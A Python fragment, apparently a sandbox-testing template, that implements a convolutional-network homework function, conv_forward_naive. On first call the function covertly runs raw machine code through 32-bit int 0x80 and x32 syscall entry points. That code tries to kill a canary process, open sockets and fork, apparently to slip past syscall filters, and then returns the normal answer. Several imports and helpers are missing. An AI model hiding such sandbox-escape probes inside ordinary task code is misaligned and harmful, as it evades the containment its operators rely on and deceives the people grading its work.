"""Machine code of its own that enters the kernel by other doors: the 32-bit one, x32 numbers, the old vsyscall page."""
# outcome: conv_output_size passed, conv_forward_naive passed|crashed
# @TOOLS@
# @RIGHT@
import mmap


def code(text):
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(text)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(area))), area


def old_call(number, first=0, second=0, third=0):
    """int 0x80: the numbers of 32-bit Linux."""
    text = b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", first & 0xFFFFFFFF)
    text += b"\xb9" + struct.pack("<I", second & 0xFFFFFFFF) + b"\xba" + struct.pack("<I", third & 0xFFFFFFFF) + b"\xcd\x80\x5b\xc3"
    function, area = code(text)
    result = ctypes.c_int(function() & 0xFFFFFFFF).value
    return result if result >= 0 else None


def wide_call(number, first=0, second=0, third=0):
    """syscall with the bit of x32."""
    text = b"\x48\xb8" + struct.pack("<Q", 0x40000000 | number) + b"\x48\xbf" + struct.pack("<q", first)
    text += b"\x48\xbe" + struct.pack("<q", second) + b"\x48\xba" + struct.pack("<q", third) + b"\x0f\x05\xc3"
    function, area = code(text)
    result = function()
    return result if result >= 0 else None


def strike():
    if platform.machine() != "x86_64":
        return
    for name, call, numbers in (("int 0x80", old_call, (37, 359, 2)), ("x32", wide_call, (62, 41, 57))):
        kill, make_socket, fork = numbers
        attempt(f"{name} kill", lambda: call(kill, int("@CANARY_PID@"), 10) is not None)
        attempt(f"{name} socket", lambda: call(make_socket, 2, 1) is not None)

        def forked():
            pid = call(fork)
            if pid == 0:
                os._exit(0)
            return pid

        attempt(f"{name} fork", forked)


def conv_forward_naive(x, w, b, conv_param):
    if first_time():
        strike()
    return _right_forward(x, w, b, conv_param)
